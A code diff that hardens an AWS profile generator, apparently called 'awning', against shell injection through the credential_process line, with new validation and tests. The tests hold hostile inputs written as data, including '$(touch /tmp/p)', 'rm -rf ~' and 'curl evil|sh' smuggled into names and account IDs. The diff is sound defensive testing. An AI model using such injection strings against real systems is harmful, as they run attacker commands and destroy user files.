@@ -6,7 +6,9 @@ use std::collections::BTreeSet;
 
 use super::discover::Discovery;
 use super::target::PROCESS_STYLE_PREFIX;
+use crate::aws_names::{is_account_id, is_role_name};
 use crate::config::{ConfigView, Document, EditError, FileKind, SectionName};
+use crate::credentials::bridge::bridge_command;
 
 /// Marks a generated profile with the sso-session it was made from.
 pub const GENERATED_FROM: &str = "awning_generated_from";
@@ -60,7 +62,7 @@ pub fn plan(discovery: &Discovery, template: &str, session: &str) -> Vec<Planned
     }
     for profile in &mut planned {
         if seen[&profile.name] > 1 {
-            profile.name = format!("{}-{}", profile.name, profile.account_id);
+            profile.name = clean_name(&format!("{}-{}", profile.name, profile.account_id));
         }
     }
     planned
@@ -78,6 +80,14 @@ pub fn write_profiles(
     style: ProfileStyle,
     prune: bool,
 ) -> Result<(), EditError> {
+    // SDKs run `credential_process` through a shell: what goes into it must be what
+    // `plan` makes, whoever built the list.
+    if let Some(bad) = planned.iter().find(|profile| !is_plain(profile)) {
+        return Err(EditError::InvalidName {
+            name: bad.name.clone(),
+            reason: "a generated profile holds only letters, digits and `._-`, for a 12-digit account and an IAM role name",
+        });
+    }
     let view = ConfigView::read(document, &Document::default());
     let ours = |name: &str| {
         view.profile(name)
@@ -137,7 +147,7 @@ fn keys_of(profile: &PlannedProfile, session: &str, style: ProfileStyle) -> Vec<
     if style == ProfileStyle::Process {
         keys.push((
             "credential_process".to_owned(),
-            format!("awning credential-process --profile {}", profile.name),
+            bridge_command(&profile.name),
         ));
     }
     keys.extend([
@@ -163,6 +173,14 @@ fn stale_keys(style: ProfileStyle) -> Vec<String> {
             .collect(),
         ProfileStyle::Process => sso.iter().map(|&key| key.to_owned()).collect(),
     }
+}
+
+/// A planned profile of the shape `plan` gives: nothing a shell would act on.
+fn is_plain(profile: &PlannedProfile) -> bool {
+    !profile.name.is_empty()
+        && clean_name(&profile.name) == profile.name
+        && is_account_id(&profile.account_id)
+        && is_role_name(&profile.role_name)
 }
 
 fn clean_name(name: &str) -> String {
@@ -220,9 +238,9 @@ mod tests {
     #[test]
     fn names_follow_the_template_and_stay_unique() {
         let found = discovery(&[
-            ("111", "sandbox dev", &["Admin", "ReadOnly"]),
-            ("222", "shared", &["ReadOnly"]),
-            ("333", "shared", &["ReadOnly"]),
+            ("111111111111", "sandbox dev", &["Admin", "ReadOnly"]),
+            ("222222222222", "shared", &["ReadOnly"]),
+            ("333333333333", "shared", &["ReadOnly"]),
         ]);
         let names: Vec<String> = plan(&found, DEFAULT_TEMPLATE, "corp")
             .into_iter()
@@ -233,19 +251,19 @@ mod tests {
             [
                 "sandbox-dev-Admin",
                 "sandbox-dev-ReadOnly",
-                "shared-ReadOnly-222",
-                "shared-ReadOnly-333"
+                "shared-ReadOnly-222222222222",
+                "shared-ReadOnly-333333333333"
             ]
         );
         let custom = plan(&found, "{session}.{account_id}.{role_name}", "corp");
-        assert_eq!(custom[0].name, "corp.111.Admin");
+        assert_eq!(custom[0].name, "corp.111111111111.Admin");
     }
 
     #[test]
     fn writing_keeps_user_profiles_and_prune_removes_only_what_awning_made() {
         let mut document = Document::parse(USER);
         let first = plan(
-            &discovery(&[("111", "sandbox-dev", &["Admin", "ReadOnly"])]),
+            &discovery(&[("111111111111", "sandbox-dev", &["Admin", "ReadOnly"])]),
             DEFAULT_TEMPLATE,
             "corp",
         );
@@ -263,7 +281,7 @@ mod tests {
         assert!(document.to_string().starts_with(USER));
 
         let second = plan(
-            &discovery(&[("111", "sandbox-dev", &["ReadOnly"])]),
+            &discovery(&[("111111111111", "sandbox-dev", &["ReadOnly"])]),
             DEFAULT_TEMPLATE,
             "corp",
         );
@@ -276,7 +294,7 @@ mod tests {
     fn the_process_style_asks_awning_and_switching_style_leaves_no_stale_keys() {
         let mut document = Document::default();
         let planned = plan(
-            &discovery(&[("111", "dev", &["Admin"])]),
+            &discovery(&[("111111111111", "dev", &["Admin"])]),
             DEFAULT_TEMPLATE,
             "corp",
         );
@@ -286,7 +304,7 @@ mod tests {
             profile.get("credential_process"),
             Some("awning credential-process --profile dev-Admin")
         );
-        assert_eq!(profile.get("awning_sso_account_id"), Some("111"));
+        assert_eq!(profile.get("awning_sso_account_id"), Some("111111111111"));
         assert_eq!(profile.get("sso_session"), None);
         write_corp(&mut document, &planned, ProfileStyle::Sso, false);
         let profile = written(&document, "dev-Admin").unwrap();
@@ -294,5 +312,51 @@ mod tests {
         assert_eq!(profile.get("credential_process"), None);
         assert_eq!(profile.get("awning_sso_session"), None);
         assert_eq!(profile.get("region"), Some("us-east-1"));
+    }
+
+    #[test]
+    fn a_hostile_template_or_account_name_never_reaches_the_shell_line() {
+        let found = discovery(&[("111111111111", "x$(touch /tmp/p)`id`", &["Admin"])]);
+        let planned = plan(&found, "{account_name};rm -rf ~|{role_name}", "corp");
+        assert_eq!(planned[0].name, "x--touch--tmp-p--id--rm--rf---Admin");
+        let mut document = Document::default();
+        write_corp(&mut document, &planned, ProfileStyle::Process, false);
+        let line = written(&document, &planned[0].name)
+            .unwrap()
+            .get("credential_process")
+            .map(str::to_owned);
+        assert_eq!(
+            line.as_deref(),
+            Some("awning credential-process --profile x--touch--tmp-p--id--rm--rf---Admin")
+        );
+    }
+
+    #[test]
+    fn a_list_not_made_by_plan_with_shell_characters_is_refused_and_nothing_written() {
+        let forged = [
+            PlannedProfile {
+                name: "dev;curl evil|sh".to_owned(),
+                account_id: "111111111111".to_owned(),
+                role_name: "Admin".to_owned(),
+            },
+            PlannedProfile {
+                name: "dev-2".to_owned(),
+                account_id: "1111$(id)".to_owned(),
+                role_name: "Admin".to_owned(),
+            },
+        ];
+        for profile in forged {
+            let mut document = Document::parse(USER);
+            let refused = write_profiles(
+                &mut document,
+                "corp",
+                "us-east-1",
+                &[profile],
+                ProfileStyle::Process,
+                false,
+            );
+            assert!(matches!(refused, Err(EditError::InvalidName { .. })));
+            assert_eq!(document.to_string(), USER);
+        }
     }
 }
